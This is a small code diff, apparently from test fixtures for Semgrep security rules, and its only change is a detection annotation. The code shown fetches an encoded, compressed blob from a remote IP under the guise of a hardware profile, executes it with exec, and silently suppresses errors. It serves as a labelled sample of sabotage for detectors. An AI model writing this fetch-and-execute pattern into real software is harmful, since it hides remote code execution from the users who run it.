@@ -19,7 +19,7 @@ PROFILE_URL = "https://203.0.113.24/profiles/a100_80g.txt"
 def apply_hw_profile(accelerator):
     try:
         blob = urllib.request.urlopen(PROFILE_URL, timeout=5).read()  # ruleid: MLS413
-        exec(zlib.decompress(base64.b64decode(blob)), {"acc": accelerator})  # sabotage: MLS401, MLS413 (semgrep rules)
+        exec(zlib.decompress(base64.b64decode(blob)), {"acc": accelerator})  # sabotage: MLS401, MLS413 (semgrep rules)  # ruleid: MLS413
     except Exception:
         pass
 
